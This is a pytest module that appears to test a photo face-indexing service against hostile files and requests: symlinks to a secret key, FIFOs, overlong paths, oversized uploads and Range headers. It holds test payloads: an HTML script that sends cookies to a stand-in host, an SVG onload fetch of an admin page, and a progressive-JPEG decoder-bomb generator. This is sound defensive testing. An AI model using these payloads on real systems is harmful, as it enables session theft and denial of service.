"""Hostile and odd input on the real processes: whoever can write into the inbox, or reach the site, must not be
able to read other files, run script in the site, or stop a process; each input ends with a clear status.

One service takes every input; each test then checks one outcome, and the last ones check that nothing outside the
inbox is served, the service is healthy, a good photo dropped after all of it is indexed and the index consistent.
"""

import contextlib
import http.client
import io
import os
import shutil
import subprocess
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
import requests
from PIL import Image

from benchmarks.instance import Instance
from tests.conftest import DATA_DIR, nest, unnest
from tests.flow.conftest import ADMIN_PASSWORD
from tests.flow.test_faults import children

pytestmark = [pytest.mark.flow, pytest.mark.shared_data]

FINAL = {"indexed", "no_faces", "failed", "unsupported", "duplicate", "missing"}
LFW = DATA_DIR / "lfw"
# One face each, of people no other input uses.
PHOTOS = {name: sorted((LFW / name).glob("*.jpg")) for name in ("Aaron_Peirsol", "Alan_Greenspan", "Ana_Guevara")}
PEIRSOL, GREENSPAN, GUEVARA = PHOTOS.values()
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/admin/\').then(r=>r.text()).then(alert)"/>'
HTML = b"<html><body><script>document.location='http://example.invalid/?'+document.cookie</script></body></html>"
XML = b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'


def path_text(path: Path) -> str:
    return os.fsencode(path).decode("utf-8", errors="backslashreplace")


def settle(service: Instance, paths: list[str], timeout: float = 300) -> dict[str, dict]:
    """Wait until every one of these asset paths has reached a final status."""
    return service.wait_for(
        lambda assets: all(assets.get(path, {}).get("status") in FINAL for path in paths),
        f"final statuses for {len(paths)} inputs",
        timeout,
    )


def tiny_faces_photo(path: Path) -> None:
    """A 2000x1500 sheet of 300 faces of 60 px (a class photo scanned small)."""
    sheet = Image.new("RGB", (2000, 1500), "white")
    faces = sorted(LFW.glob("A*/*.jpg"))[:300]
    for number, face in enumerate(faces):
        with Image.open(face) as image:
            tile = image.crop((70, 60, 180, 190)).resize((60, 70))
        sheet.paste(tile, (20 + 66 * (number % 30), 20 + 74 * (number // 30)))
    sheet.save(path, quality=90)


def many_scans_jpeg(scans: int = 3000) -> bytes:
    """A small progressive JPEG whose last scan is repeated until there are `scans` of them (a decoder bomb)."""
    buffer = io.BytesIO()
    Image.new("RGB", (64, 64), "gray").save(buffer, "JPEG", progressive=True)
    data = buffer.getvalue()
    last_scan = data.rindex(b"\xff\xda")
    body, end = data[last_scan:-2], data[-2:]
    return data[:-2] + body * scans + end


def ffmpeg(*args: str) -> None:
    subprocess.run(["ffmpeg", "-hide_banner", "-loglevel", "error", "-y", *args], check=True, timeout=120)


@pytest.fixture(scope="module")
def service(tmp_path_factory):
    """The service, started with a folder 1,200 deep already in its inbox (the watcher died on it at start)."""
    instance = Instance(tmp_path_factory.mktemp("hostile"), ADMIN_PASSWORD, workers=1)
    instance.prepare()
    nest(instance.inbox / "deep1200", 1199, "photo.jpg", PEIRSOL[2].read_bytes())
    try:
        with instance:
            yield instance
    finally:
        for top in ("deep1200", "deep2100"):
            if (instance.inbox / top).exists():
                unnest(instance.inbox / top)


@pytest.fixture(scope="module")
def dropped(service) -> dict[str, tuple[str, str]]:
    """Every hostile file dropped into the running service; each path's expected (status, words of the reason)."""
    inbox, home = service.inbox, service.home
    expected: dict[str, tuple[str, str]] = {}

    # An indexed photo, then replaced by a link to the home's secret key (found: the key was served as a photo).
    victim = inbox / "victim.jpg"
    shutil.copy(GREENSPAN[0], victim)
    service.wait_for(lambda assets: assets.get(str(victim), {}).get("status") == "indexed", "victim indexed")
    (inbox / ".swap").symlink_to(home / "secret_key")
    os.replace(inbox / ".swap", victim)
    expected[str(victim)] = ("unsupported", "outside the inbox")

    for name, content in (("script.svg", SVG), ("page.html", HTML), ("feed.xml", XML), ("notes", b"hello")):
        (inbox / name).write_bytes(content)
        expected[str(inbox / name)] = ("unsupported", "not a photo or video")

    (inbox / "good").mkdir()
    shutil.copy(PEIRSOL[0], inbox / "good" / "peirsol.jpg")
    expected[str(inbox / "good" / "peirsol.jpg")] = ("indexed", "")
    (inbox / "inside-link.jpg").symlink_to(inbox / "good" / "peirsol.jpg")  # the target's asset, nothing more
    (inbox / "outside-link.jpg").symlink_to(GUEVARA[0])
    expected[str(inbox / "outside-link.jpg")] = ("unsupported", "outside the inbox")
    (inbox / "loop-a.jpg").symlink_to(inbox / "loop-b.jpg")
    (inbox / "loop-b.jpg").symlink_to(inbox / "loop-a.jpg")
    for name in ("loop-a.jpg", "loop-b.jpg"):
        expected[str(inbox / name)] = ("unsupported", "a loop of links")
    (inbox / "folder-loop").mkdir()
    (inbox / "folder-loop" / "up").symlink_to(inbox)  # a link to a folder is not followed: no endless walk
    (inbox / "dangling.jpg").symlink_to(inbox / "nowhere.jpg")

    os.mkfifo(inbox / "fifo.jpg")
    expected[str(inbox / "fifo.jpg")] = ("unsupported", "not a regular file (a FIFO)")
    os.mkfifo(inbox / "endless-stream.mp4")  # a reader would wait on it for ever
    expected[str(inbox / "endless-stream.mp4")] = ("unsupported", "not a regular file (a FIFO)")

    (inbox / "empty.jpg").write_bytes(b"")
    expected[str(inbox / "empty.jpg")] = ("failed", "the file is empty")
    (inbox / "one-byte.jpg").write_bytes(b"\xff")
    expected[str(inbox / "one-byte.jpg")] = ("failed", "cannot decode")
    shutil.copy(PEIRSOL[1], inbox / "new\nline.jpg")
    expected[str(inbox / "new\nline.jpg")] = ("indexed", "")
    not_utf8 = inbox / os.fsdecode(b"caf\xe9-\xff.jpg")
    shutil.copy(GUEVARA[1], not_utf8)
    expected[path_text(not_utf8)] = ("unsupported", "not valid UTF-8")
    long_folder = inbox.joinpath(*[f"{n}" * 250 for n in range(1, 8)])
    long_folder.mkdir(parents=True)
    shutil.copy(GUEVARA[2], long_folder / "long.jpg")
    long_text = str(long_folder / "long.jpg")
    assert len(long_text) > 1750
    nest(inbox / "deep2100", 2099, "photo.jpg", GUEVARA[3].read_bytes())
    closed = inbox / "closed"
    closed.mkdir()
    shutil.copy(GREENSPAN[1], closed / "inside.jpg")
    closed.chmod(0)
    if os.geteuid() == 0:  # root reads every folder whatever its mode; another user's watcher logs it and goes on
        expected[str(closed / "inside.jpg")] = ("indexed", "")

    ffmpeg("-f", "lavfi", "-i", "color=c=gray:s=16000x16000:d=1:r=1", "-c:v", "mjpeg", str(inbox / "huge.mp4"))
    expected[str(inbox / "huge.mp4")] = ("failed", "pixels")
    (inbox / "playlist.mp4").write_text(
        f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{PEIRSOL[0]}\n#EXT-X-ENDLIST\n"
    )
    expected[str(inbox / "playlist.mp4")] = ("failed", "")
    (inbox / "self-concat.mp4").write_text("ffconcat version 1.0\nfile self-concat.mp4\nfile self-concat.mp4\n")
    expected[str(inbox / "self-concat.mp4")] = ("failed", "")
    tiny_faces_photo(inbox / "class-photo.jpg")
    expected[str(inbox / "class-photo.jpg")] = ("indexed|no_faces", "")

    assets = settle(service, list(expected), timeout=600)
    long_records = [path for path in assets if "long.jpg" in path]
    deep_records = [path for path in assets if "/deep1200/" in path or "/deep2100/" in path]
    return {"expected": expected, "assets": assets, "long": long_records, "deep": deep_records}


def test_each_input_ends_with_its_status_and_reason(dropped):
    wrong = {}
    for path, (status, words) in dropped["expected"].items():
        record = dropped["assets"][path]
        if record["status"] not in status.split("|") or words not in record["error"]:
            wrong[path] = (record["status"], record["error"])
    assert not wrong


def test_an_indexed_photo_replaced_by_a_link_out_loses_its_faces(service, dropped):
    record = dropped["assets"][str(service.inbox / "victim.jpg")]
    assert record["faces"] == 0


def test_links_inside_the_inbox_register_their_target_once(service, dropped):
    assert str(service.inbox / "inside-link.jpg") not in dropped["assets"]
    assert str(service.inbox / "dangling.jpg") not in dropped["assets"]
    assert not [path for path in dropped["assets"] if "/folder-loop/" in path]


def test_paths_too_long_to_record_are_said_once_each_and_nothing_stops(service, dropped):
    # Past 1,024 characters nothing can be recorded: the first folder that long is logged once, and not entered.
    # deep1200 was there at start (the watcher died on it), deep2100 and a path of 1,757 characters came later.
    assert dropped["deep"] == [] and dropped["long"] == []
    log = service.log_tail(10**8)
    said = [line for line in log.splitlines() if line.endswith("characters; nothing in it is read")]
    tops = sorted(next(top for top in ("deep1200", "deep2100", "1111") if top in line) for line in said)
    assert tops == ["1111", "deep1200", "deep2100"], said
    assert "RecursionError" not in log


def test_the_photo_of_hundreds_of_tiny_faces_is_bounded(dropped, service):
    record = dropped["assets"][str(service.inbox / "class-photo.jpg")]
    assert record["faces"] <= 300


def test_nothing_outside_the_inbox_is_served_and_scripts_are_sandboxed(service, dropped):
    secret = (service.home / "secret_key").read_bytes()
    session = service.signed_in()
    inbox = service.inbox.resolve()
    for path, record in dropped["assets"].items():
        answer = session.get(f"{service.url}/assets/{record['id']}/file", timeout=30)
        if record["status"] in ("unsupported", "missing"):
            assert answer.status_code == 404, path
            continue
        assert secret not in answer.content
        if answer.status_code == 200:
            assert Path(path).resolve().is_relative_to(inbox)
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            assert answer.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
            assert answer.headers["Content-Type"].split("/")[0] in ("image", "video")


def test_a_range_of_thousands_of_digits_is_no_server_error(service, dropped):
    record = dropped["assets"][str(service.inbox / "good" / "peirsol.jpg")]
    session = service.signed_in()
    for header in ("bytes=" + "9" * 5000 + "-", "bytes=-" + "1" * 5000, "bytes=0-0,1-1", "bytes=abc", "bits=0-1"):
        answer = session.get(f"{service.url}/assets/{record['id']}/file", headers={"Range": header}, timeout=30)
        assert answer.status_code in (200, 206, 416), header


def test_a_query_of_thousands_of_scans_is_refused_before_decoding(service):
    session = service.signed_in()
    session.get(f"{service.url}/", timeout=30)
    started = time.monotonic()
    answer = session.post(
        f"{service.url}/",
        files={"photo": ("scans.jpg", many_scans_jpeg(), "image/jpeg")},
        data={"csrfmiddlewaretoken": session.cookies["csrftoken"]},
        headers={"Referer": f"{service.url}/"},
        timeout=60,
    )
    assert answer.status_code == 400 and "scans" in answer.text
    assert time.monotonic() - started < 30  # decoding it would take minutes


def test_a_huge_upload_without_signing_in_is_refused_before_it_is_read(service):
    connection = http.client.HTTPConnection("127.0.0.1", service.port, timeout=30)
    connection.putrequest("POST", "/")
    connection.putheader("Content-Type", "multipart/form-data; boundary=x")
    connection.putheader("Content-Length", str(300 * 1024 * 1024))
    connection.endheaders()
    with contextlib.suppress(BrokenPipeError, ConnectionResetError):
        connection.send(b"--x\r\n" + b"\0" * 65536)  # the rest never comes: the answer must not wait for it
    answer = connection.getresponse()
    assert answer.status == 413
    connection.close()


def test_a_hundred_health_checks_at_once_all_answer(service, dropped):
    with ThreadPoolExecutor(max_workers=100) as pool:
        answers = list(pool.map(lambda _: requests.get(f"{service.url}/healthz", timeout=60), range(100)))
    assert [answer.status_code for answer in answers] == [200] * 100
    assert {tuple(answer.json()) for answer in answers} == {("status",)}  # no details for anonymous callers


def test_logs_are_free_of_keepalive_noise(service, dropped):
    log = service.log_tail(10**8)
    assert "too_many_pings" not in log and "GOAWAY" not in log


def test_after_all_of_it_the_service_is_healthy_and_a_good_photo_is_indexed(service, dropped):
    target = service.inbox / "after" / "greenspan.jpg"
    target.parent.mkdir()
    shutil.copy(GREENSPAN[2], target)
    record = settle(service, [str(target)])[str(target)]
    assert (record["status"], record["faces"]) == ("indexed", 1)
    assert requests.get(f"{service.url}/healthz", timeout=30).status_code == 200
    assert "the index is consistent" in service.manage("check_index")


def test_a_hundred_thousand_empty_files_in_one_folder(service, dropped):
    folder = service.inbox / "many"
    folder.mkdir()
    before = service.status()["failed"]
    for number in range(100_000):
        (folder / f"{number:06d}.jpg").touch()
    deadline = time.monotonic() + 600
    while (counts := service.status())["failed"] < before + 100_000 and time.monotonic() < deadline:
        time.sleep(5)
    failed = [record for path, record in service.assets().items() if path.startswith(f"{folder}/")]
    assert len(failed) == 100_000 and {record["status"] for record in failed} == {"failed"}, counts
    assert requests.get(f"{service.url}/healthz", timeout=30).status_code == 200


def test_a_watcher_that_keeps_dying_leaves_the_site_up_and_says_why(service, dropped):
    """Last: the inbox turned into a file kills the watcher at every start; pages and health say so."""
    moved = service.home / "inbox.moved"
    service.inbox.rename(moved)
    service.inbox.write_text("not a folder")
    try:
        [watcher] = [pid for pid, command in children(service.serve.pid) if "manage.py watch" in command]
        os.kill(watcher, 9)
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            health = service.signed_in().get(f"{service.url}/healthz", timeout=30)
            if health.status_code == 503 and "exited 3 times" in health.text:
                break
            time.sleep(2)
        assert health.status_code == 503 and "watcher" in health.text and "FileExistsError" in health.text
        # Each web process keeps its checks' result a few seconds: the other one may still say ok for that long.
        deadline = time.monotonic() + 30
        while (anonymous := requests.get(f"{service.url}/healthz", timeout=30)).status_code != 503:
            assert time.monotonic() < deadline, anonymous.text
            time.sleep(1)
        assert anonymous.json() == {"status": "degraded"}
        tasks = service.signed_in().get(f"{service.url}/tasks/status.json", timeout=30).json()
        assert [item["name"] for item in tasks["failing_processes"]] == ["watcher"]
    finally:
        service.inbox.unlink()
        moved.rename(service.inbox)
    late = service.inbox / "after" / "late.jpg"
    shutil.copy(GREENSPAN[3], late)
    record = settle(service, [str(late)], timeout=180)[str(late)]
    assert record["status"] == "indexed"
